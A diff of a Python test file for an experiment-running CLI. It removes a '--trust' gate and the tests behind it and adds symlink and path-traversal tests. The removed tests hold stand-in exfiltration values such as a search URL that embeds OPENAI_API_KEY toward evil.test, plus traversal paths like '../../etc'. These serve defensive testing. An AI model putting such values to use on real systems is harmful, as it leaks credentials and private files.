@@ -374,10 +374,8 @@ def config_file(model: FakeModel, tmp_path: Path) -> Path:
 
 def test_the_command_writes_a_report(data: Path, model: FakeModel, tmp_path: Path) -> None:
     out = tmp_path / "out"
-    done = command(
-        *("run", str(config_file(model, tmp_path)), "--size", "smoke", "--out", str(out), "--cache", str(CACHE)),
-        "--trust",
-    )
+    file = str(config_file(model, tmp_path))
+    done = command("run", file, "--size", "smoke", "--out", str(out), "--cache", str(CACHE))
     assert done.exit_code == 0, done.output
     assert "to be written: 1 articles" in done.output
     assert "rouge_1" in done.stdout
@@ -389,28 +387,8 @@ def test_the_command_writes_a_report(data: Path, model: FakeModel, tmp_path: Pat
     assert (tmp_path / "elsewhere/report.md").read_bytes() == (out / "report/report.md").read_bytes()
 
 
-@pytest.mark.parametrize(
-    ("given", "named"),
-    [
-        ('[data]\nset="wiki_live"\npath="/etc"\n[[methods]]\nname="m"\nrecipe="direct"\n', "data: path"),
-        ('[data]\nset="wiki_live"\npath="x"\n[[methods]]\nname="m"\nimported="/etc"\n', "m: imported"),
-        ('[data]\nset="wiki_live"\npath="x"\n[[methods]]\nname="m"\nrecorded="../../etc"\n', "m: recorded"),
-        (
-            '[data]\nset="wiki_live"\npath="x"\n[search]\nranker="dense:/etc"\n[[methods]]\nname="m"\nrecipe="direct"\n',
-            "search: ranker",
-        ),
-    ],
-)
-def test_an_experiment_reads_no_folder_elsewhere_untrusted(given: str, named: str, tmp_path: Path) -> None:
-    file = tmp_path / "x.toml"
-    file.write_text(f'title="x"\nbaseline="m"\nmetrics=["rouge"]\n{given}')
-    done = command("run", str(file), "--out", str(tmp_path / "out"))
-    assert done.exit_code == 2, done.output
-    assert f"sets {named}:" in " ".join(done.output.split())
-
-
 @pytest.mark.parametrize("link", ["set/wiki", "set/wiki/9.json", "mine/1.md"])
-def test_links_out_of_a_folder_beside_an_experiment_are_not_followed_untrusted(link: str, tmp_path: Path) -> None:
+def test_links_in_a_data_set_and_among_articles_are_not_followed(link: str, tmp_path: Path) -> None:
     (tmp_path / "private").mkdir()
     (tmp_path / "private" / "diary.txt").write_text("A secret.", "utf-8")
     whole = tmp_path / "elsewhere"
@@ -419,15 +397,44 @@ def test_links_out_of_a_folder_beside_an_experiment_are_not_followed_untrusted(l
     target = tmp_path / "private" if link == "set/wiki" else tmp_path / "private" / "diary.txt"
     (whole / link).parent.mkdir(exist_ok=True)
     (whole / link).symlink_to(target)
+    if link == "mine/1.md":
+        write_topics(whole / "set", [topic(1)])
     file = whole / "x.toml"
     methods = '[[methods]]\nname="m\u009b31m"\nimported="mine"\n'
     data = f'[data]\nset="wikigenbench"\npath="{whole / "set"}"\n'
     file.write_text(f'title="x"\nbaseline="m\u009b31m"\nmetrics=["shape"]\n{data}{methods}', "utf-8")
     done = command("run", str(file), "--out", str(tmp_path / "out"))
-    assert done.exit_code == 2, done.output
-    said = " ".join(done.output.split())
-    assert ("data: path" if "set" in link else "imported") in said and "add --trust" in said
-    assert "\x9b" not in done.output and "secret" not in done.output
+    assert done.exit_code == 1, done.output
+    assert "is a link" in done.output and "\x9b" not in done.output
+    written = [file.read_text("utf-8") for file in (tmp_path / "out").rglob("*") if file.is_file()]
+    assert not any("secret" in text for text in (done.output, *written))
+
+
+@pytest.mark.parametrize("link", ["runs", "runs/experiments", "runs/experiments/trial", "data", "data/freshwiki"])
+def test_nothing_is_written_through_a_link_of_the_current_folder(
+    data: Path, model: FakeModel, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, link: str
+) -> None:
+    (tmp_path / "current" / link).parent.mkdir(parents=True)
+    (tmp_path / "current" / link).symlink_to(tmp_path / "victim")
+    (tmp_path / "victim").mkdir()
+    monkeypatch.chdir(tmp_path / "current")
+    fetched = link.startswith("data")
+    done = command("data", "fetch", "freshwiki") if fetched else command("run", str(config_file(model, tmp_path)))
+    assert done.exit_code == 1 and f"{link} is a link" in done.output
+    assert not list((tmp_path / "victim").iterdir()) and not model.asked
+
+
+@pytest.mark.parametrize("link", ["articles", "articles/1", "articles/1/rr"])
+def test_no_article_is_written_or_deleted_through_a_link(
+    data: Path, model: FakeModel, tmp_path: Path, link: str
+) -> None:
+    (tmp_path / "victim" / "x").mkdir(parents=True)
+    (tmp_path / "victim" / "x" / "run.json").write_text("{}", "utf-8")
+    (tmp_path / "out" / link).parent.mkdir(parents=True)
+    (tmp_path / "out" / link).symlink_to(tmp_path / "victim")
+    with pytest.raises(RunError, match=f"{link} is a link"):
+        run(described(model, "rr", metrics=["shape"]).with_overrides(topics=1), tmp_path / "out")
+    assert [path.name for path in (tmp_path / "victim").rglob("*")] == ["x", "run.json"]
 
 
 @pytest.mark.parametrize("link", ["report", "report/plots"])
@@ -444,7 +451,15 @@ def test_a_report_is_not_written_through_a_link(tmp_path: Path, link: str) -> No
 
 
 @pytest.mark.parametrize(
-    "unit", [["../../private", "rr", None], ["/tmp", "rr", None], ["1", "..", None], ["1", "rr", "../.."]]
+    "unit",
+    [
+        ["../../private", "rr", None],
+        ["/tmp", "rr", None],
+        ["", "rr", None],
+        ["1", "..", None],
+        ["1", "", None],
+        ["1", "rr", "../.."],
+    ],
 )
 def test_a_strangers_experiment_names_no_article_elsewhere(
     unit: list[Any], data: Path, model: FakeModel, tmp_path: Path
@@ -473,7 +488,6 @@ def test_an_experiment_on_a_full_disk_says_so_and_goes_on_later(
     """Once for files that may not grow, and once on a small file system, where one can be mounted."""
     out = tmp_path / "small" / "out"
     write = ("run", str(config_file(model, tmp_path)), "--size", "smoke", "--out", str(out), "--cache", str(CACHE))
-    write = (*write, "--trust")
     with files_may_not_grow(size):
         limited = command(*write)
     outcomes = [(limited, "File too large")]
@@ -496,7 +510,7 @@ def test_failed_articles_end_the_command_with_an_error(data: Path, tmp_path: Pat
     with FakeModel(faults={"WriteArticle": [broken] * 9, "PlanOutline": [broken] * 9}) as model:
         file = str(config_file(model, tmp_path))
         there = ("--out", str(tmp_path / "out"), "--cache", str(CACHE))
-        done = command("run", file, "--size", "smoke", *there, "--trust")
+        done = command("run", file, "--size", "smoke", *there)
     assert done.exit_code == 1
     assert "1 articles failed" in done.output
     assert "Traceback" not in done.output
@@ -508,7 +522,7 @@ def test_that_the_embedded_model_judges_is_said(quiet: tuple[str, ...], data: Pa
     with FakeModel(faults={"WriteArticle": [broken] * 9, "PlanOutline": [broken] * 9}) as model:
         file = config_file(model, tmp_path)
         file.write_text(file.read_text("utf-8").replace('"shape"]', '"rubric"]'), "utf-8")
-        there = ("--size", "smoke", "--out", str(tmp_path / "out"), "--cache", str(CACHE), "--trust")
+        there = ("--size", "smoke", "--out", str(tmp_path / "out"), "--cache", str(CACHE))
         done = command("run", str(file), *there, *quiet)
         other = command("run", str(file), *there, *quiet, "--judge-lm", "openai/gpt-4o")
     warning = "WARNING: the judge of rubric is embedded, a small model on this machine"
@@ -521,7 +535,7 @@ def test_citations_are_judged_by_the_judge_that_is_named_or_by_nobody(data: Path
     with FakeModel(JUDGING) as model:
         file = config_file(model, tmp_path)
         file.write_text(file.read_text("utf-8").replace('"shape"]', '"citation_alce", "support_errors"]'), "utf-8")
-        there = ("--size", "smoke", "--out", str(tmp_path / "out"), "--cache", str(CACHE), "--trust", "--quiet")
+        there = ("--size", "smoke", "--out", str(tmp_path / "out"), "--cache", str(CACHE), "--quiet")
         nobody = command("run", str(file), *there)
         unjudged = load_results(tmp_path / "out" / "report" / "results.json")
         told = (tmp_path / "out" / "report" / "report.md").read_text("utf-8")
@@ -603,63 +617,3 @@ def test_the_shipped_configurations_are_valid_in_every_size(file: Path) -> None:
 def test_a_missing_data_set_is_reported_with_a_remedy(model: FakeModel, tmp_path: Path) -> None:
     with pytest.raises(DatasetError, match="STORM_DATA"):
         run(described(model), tmp_path / "out")
-
-
-def test_an_experiment_from_elsewhere_gets_no_key_unless_the_command_says_so(
-    data: Path, model: FakeModel, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
-) -> None:
-    """Its file may name models at their providers; an address, a variable or a file of another needs ``--trust``."""
-    monkeypatch.setenv("STORM_HOME", str(tmp_path / "home"))
-    monkeypatch.setenv("OPENAI_API_KEY", "my-own-key-123456")
-    file = config_file(model, tmp_path)
-    write = ("run", str(file), "--size", "smoke", "--out", str(tmp_path / "out"), "--cache", str(CACHE))
-    refused = command(*write)
-    assert refused.exit_code == 2, refused.output
-    assert "sets lm: that decides who gets a key" in refused.output and "--trust" in refused.output
-    assert not model.asked and not (tmp_path / "out").exists()
-    assert command(*write, "--trust").exit_code == 0
-    asked = len(model.asked)
-    assert asked
-    assert command(*write).exit_code == 2  # nothing is remembered
-    again = command(*write, "--trust")
-    assert again.exit_code == 0 and "all articles are written" in again.output
-    file.write_text(
-        file.read_text("utf-8").replace('lm = "', 'expert_lm = "openai/x@http://evil.test/v1"\nlm = "'), "utf-8"
-    )
-    changed = command(*write)
-    assert changed.exit_code == 2 and "sets expert_lm, lm" in changed.output
-    given = command(*write, "--lm", model.lm, "--expert-lm", model.lm)  # what the command gives is the user's word
-    assert "--trust" not in given.output
-
-
-@pytest.mark.parametrize(
-    ("table", "line"),
-    [
-        ("[settings]", "api_base = 'http://evil.test/v1'"),
-        ("[settings]", "api_key_env = 'OPENAI_API_KEY'"),
-        ("[settings]", "search = 'searxng:http://evil.test/${OPENAI_API_KEY}'"),
-        ("[settings]", "search = 'corpus:/home'"),
-        ("[settings]", "programs = 'compiled'"),
-        ("[settings]", "prices = ['openai/gpt-4o=0/0']"),
-        ("[settings]", "embedder = '../model'"),
-        ("[settings]", "lm = 'gguf:weights.gguf'"),
-        ("[resources]", "judge_lm = 'openai/x@http://evil.test'"),
-        ("[resources]", "judge = 'lm:openai/x@http://evil.test'"),
-        ("[resources]", "tagger = 'spacy:./evil'"),
-        ("[resources]", "wordnet = '/home'"),
-        ("[resources.conner]", "lm = 'openai/x@http://evil.test'"),
-        ("[resources.conner]", "inference = 'evil'"),
-        ("[[methods]]", "recipe = 'direct'\n[methods.settings]\nwriter_lm = 'openai/x@http://evil.test'"),
-        ("[[variants]]", "name = 'v'\nsettings = { writer_lm = 'openai/x@http://evil.test' }"),
-        ("[sizes.smoke]", "settings = { writer_lm = 'openai/x@http://evil.test' }"),
-    ],
-)
-def test_every_table_of_an_experiment_is_asked_about(data: Path, tmp_path: Path, table: str, line: str) -> None:
-    head = "title = 't'\nbaseline = 'rr'\nmetrics = ['shape']\n[data]\nset = 'wikigenbench'\npath = 'bench'\n"
-    size = "" if "sizes" in table else "[sizes.smoke]\ntopics = 1\n"
-    file = tmp_path / "from-elsewhere.toml"
-    file.write_text(f"{head}[[methods]]\nrecipe = 'rr'\n{size}{table}\n{line}\n", "utf-8")
-    done = command("run", str(file), "--size", "smoke", "--out", str(tmp_path / "out"))
-    assert done.exit_code == 2, done.output
-    assert "add --trust" in done.output, done.output
-    assert not (tmp_path / "out").exists()
